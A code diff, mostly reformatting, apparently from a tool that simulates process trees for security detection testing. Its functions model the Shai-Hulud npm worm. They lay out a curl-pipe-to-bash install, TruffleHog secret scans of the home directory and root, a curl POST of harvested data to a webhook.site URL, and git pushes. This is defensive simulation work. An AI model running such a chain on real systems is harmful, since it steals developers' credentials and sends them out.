-                    image(p.node, &["node", "/srv/app/project/node_modules/.bin/prebuild-install"]),
+                    image(
+                        p.node,
+                        &[
+                            "node",
+                            "/srv/app/project/node_modules/.bin/prebuild-install",
+                        ],
+                    ),
                     1_200,
-                    SpawnOpts { via_env: true, ..opts() },
+                    SpawnOpts {
+                        via_env: true,
+                        ..opts()
+                    },
                 );
             }
         }
@@ -750,30 +1194,123 @@ impl Ctx<'_> {
     fn shai_hulud_2(&mut self, npm: &Proc, at: i64, m: &[Mark]) {
         let p = paths(self.host);
         let sh = self.spawn(npm, at, sh_c(&p, "node setup_bun.js"), 25_000, marks(m));
-        let setup = self.spawn(&sh.proc, sh.start_ts + 4, image(p.node, &["node", "setup_bun.js"]), 24_000, opts());
-        let inst = self.spawn(&setup.proc, setup.start_ts + 120, sh_c(&p, "curl -fsSL https://bun.sh/install | bash"), 6_000, opts());
-        self.spawn(&inst.proc, inst.start_ts + 3, image("/usr/bin/curl", &["curl", "-fsSL", "https://bun.sh/install"]), 900, opts());
-        let bash = self.spawn(&inst.proc, inst.start_ts + 4, image("/usr/bin/bash", &["bash"]), 5_500, opts());
+        let setup = self.spawn(
+            &sh.proc,
+            sh.start_ts + 4,
+            image(p.node, &["node", "setup_bun.js"]),
+            24_000,
+            opts(),
+        );
+        let inst = self.spawn(
+            &setup.proc,
+            setup.start_ts + 120,
+            sh_c(&p, "curl -fsSL https://bun.sh/install | bash"),
+            6_000,
+            opts(),
+        );
+        self.spawn(
+            &inst.proc,
+            inst.start_ts + 3,
+            image(
+                "/usr/bin/curl",
+                &["curl", "-fsSL", "https://bun.sh/install"],
+            ),
+            900,
+            opts(),
+        );
+        let bash = self.spawn(
+            &inst.proc,
+            inst.start_ts + 4,
+            image("/usr/bin/bash", &["bash"]),
+            5_500,
+            opts(),
+        );
         let home = format!("{}/{}", p.home_root, npm.user.name);
         let bun_dir = format!("{home}/.bun/bin");
         let zip = format!("{bun_dir}/bun.zip");
-        self.spawn(&bash.proc, bash.start_ts + 2_500, image("/usr/bin/unzip", &["unzip", "-oqd", &bun_dir, &zip]), 400, opts());
+        self.spawn(
+            &bash.proc,
+            bash.start_ts + 2_500,
+            image("/usr/bin/unzip", &["unzip", "-oqd", &bun_dir, &zip]),
+            400,
+            opts(),
+        );
         let bun_exe = format!("{bun_dir}/bun");
-        let bun = self.spawn(&setup.proc, inst.start_ts + 6_100, image(&bun_exe, &["bun", "bun_environment.js"]), 17_000, opts());
-        self.spawn(&bun.proc, bun.start_ts + 1_500, image("/tmp/trufflehog", &["trufflehog", "filesystem", &home, "--json"]), 12_000, opts());
-        self.spawn(&bun.proc, bun.start_ts + 14_000, image("/usr/bin/git", &["git", "push", "origin", "main"]), 1_500, opts());
+        let bun = self.spawn(
+            &setup.proc,
+            inst.start_ts + 6_100,
+            image(&bun_exe, &["bun", "bun_environment.js"]),
+            17_000,
+            opts(),
+        );
+        self.spawn(
+            &bun.proc,
+            bun.start_ts + 1_500,
+            image(
+                "/tmp/trufflehog",
+                &["trufflehog", "filesystem", &home, "--json"],
+            ),
+            12_000,
+            opts(),
+        );
+        self.spawn(
+            &bun.proc,
+            bun.start_ts + 14_000,
+            image("/usr/bin/git", &["git", "push", "origin", "main"]),
+            1_500,
+            opts(),
+        );
     }
 
     /// Shai-Hulud wave 1: `postinstall: node bundle.js` runs TruffleHog and exfiltrates.
     fn shai_hulud_1(&mut self, npm: &Proc, at: i64, m: &[Mark]) {
         let p = paths(self.host);
         let sh = self.spawn(npm, at, sh_c(&p, "node bundle.js"), 20_000, marks(m));
-        let bundle = self.spawn(&sh.proc, sh.start_ts + 4, image(p.node, &["node", "bundle.js"]), 19_000, opts());
-        self.spawn(&bundle.proc, bundle.start_ts + 800, image("/tmp/trufflehog", &["trufflehog", "filesystem", "/", "--json"]), 9_000, opts());
+        let bundle = self.spawn(
+            &sh.proc,
+            sh.start_ts + 4,
+            image(p.node, &["node", "bundle.js"]),
+            19_000,
+            opts(),
+        );
+        self.spawn(
+            &bundle.proc,
+            bundle.start_ts + 800,
+            image(
+                "/tmp/trufflehog",
+                &["trufflehog", "filesystem", "/", "--json"],
+            ),
+            9_000,
+            opts(),
+        );
         let hook = format!("https://webhook.site/{}", self.rng.uuid());
-        self.spawn(&bundle.proc, bundle.start_ts + 10_200, image("/usr/bin/curl", &["curl", "-s", "-d", "@/tmp/data.json", &hook]), 700, opts());
-        self.spawn(&bundle.proc, bundle.start_ts + 11_000, image("/usr/bin/git", &["git", "push", "-u", "origin", "shai-hulud"]), 1_600, opts());
-        self.spawn(&bundle.proc, bundle.start_ts + 13_000, image("/usr/bin/bash", &["bash", "/tmp/processor.sh"]), 2_000, opts());
+        self.spawn(
+            &bundle.proc,
+            bundle.start_ts + 10_200,
+            image(
+                "/usr/bin/curl",
+                &["curl", "-s", "-d", "@/tmp/data.json", &hook],
+            ),
+            700,
+            opts(),
+        );
+        self.spawn(
+            &bundle.proc,
+            bundle.start_ts + 11_000,
+            image(
+                "/usr/bin/git",
+                &["git", "push", "-u", "origin", "shai-hulud"],
+            ),
+            1_600,
+            opts(),
+        );
+        self.spawn(
+            &bundle.proc,
+            bundle.start_ts + 13_000,
+            image("/usr/bin/bash", &["bash", "/tmp/processor.sh"]),
+            2_000,
+            opts(),
+        );
     }
 }
 
